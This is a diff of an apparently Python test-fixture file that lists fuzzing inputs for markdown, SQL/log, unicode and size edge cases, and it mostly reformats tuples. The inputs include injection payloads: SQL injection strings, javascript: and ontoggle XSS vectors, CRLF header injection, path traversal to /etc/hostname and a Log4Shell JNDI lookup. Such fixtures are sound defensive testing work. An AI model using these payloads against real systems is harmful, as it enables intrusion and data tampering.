@@ -44,12 +44,23 @@ FORMULAS = (
 MARKDOWN = (
     *(f"](javascript:{RUN})", "![x](http://host.invalid/x.png)", "[ver](file:///etc/hostname)", "| a | b |"),
     *("`codigo", "*negrita* _curs_ ~~x~~ ==y==", "# Titulo", f"<details open ontoggle={RUN}>", "1. lista", "---"),
-    *("\\| \\\\ \\`", "- [x] hecho", "<http://host.invalid/>", "http://host.invalid/ www.host.invalid", "a@host.invalid"),
+    *(
+        "\\| \\\\ \\`",
+        "- [x] hecho",
+        "<http://host.invalid/>",
+        "http://host.invalid/ www.host.invalid",
+        "a@host.invalid",
+    ),
     *("[^1]: nota", "[x]: http://host.invalid/", "$$x$$", "> cita", "&#124; &vert;", "\\", "~~~", ":::nota"),
 )
 SQL_AND_LOGS = (
     *("'; DROP TABLE registros;--", "' OR '1'='1", '" OR ""="', "\x1b[31mROJO\x1b[0m", "\x1b]0;titulo\x07", "\x9b2J"),
-    *("linea1\u2028ERROR linea falsa", "%0d%0aSet-Cookie:x", "../../../../etc/hostname", "${jndi:ldap://host.invalid/x}"),
+    *(
+        "linea1\u2028ERROR linea falsa",
+        "%0d%0aSet-Cookie:x",
+        "../../../../etc/hostname",
+        "${jndi:ldap://host.invalid/x}",
+    ),
     *("NULL", "NaN", "None", "\\x00\\u0000", "{'a': 1}", '{"a": 1}', "__proto__", "constructor"),
 )
 NUMBERS = (
@@ -64,7 +75,7 @@ UNICODE = (
     *("\ufffd\ufffe", "\u3000ancho", "x\x7f\x85\x0b\x0cy", "مرحبا (1) שלום", "\u115f\u3164", "a\u0600b"),
 )
 SIZES = (
-    *("x" * 32_767, "y" * 32_768, "largo " * 8_000 + "fin", "_x000D_", "_x005F_x000D_", "\x01\x02\x08", "a\x00b"),
+    *("x" * 32_767, "y" * 32_768, "largo " * 8_000 + "fin", "_x000D_", "\x01\x02\x08", "a\x00b"),
     *("\u00f1" * 40_000, "=" * 5_000, "<" * 5_000, '"' * 5_000, "|" * 5_000, "\U0001f600" * 20_000),
 )
 GROUPS: Mapping[str, tuple[str, ...]] = {
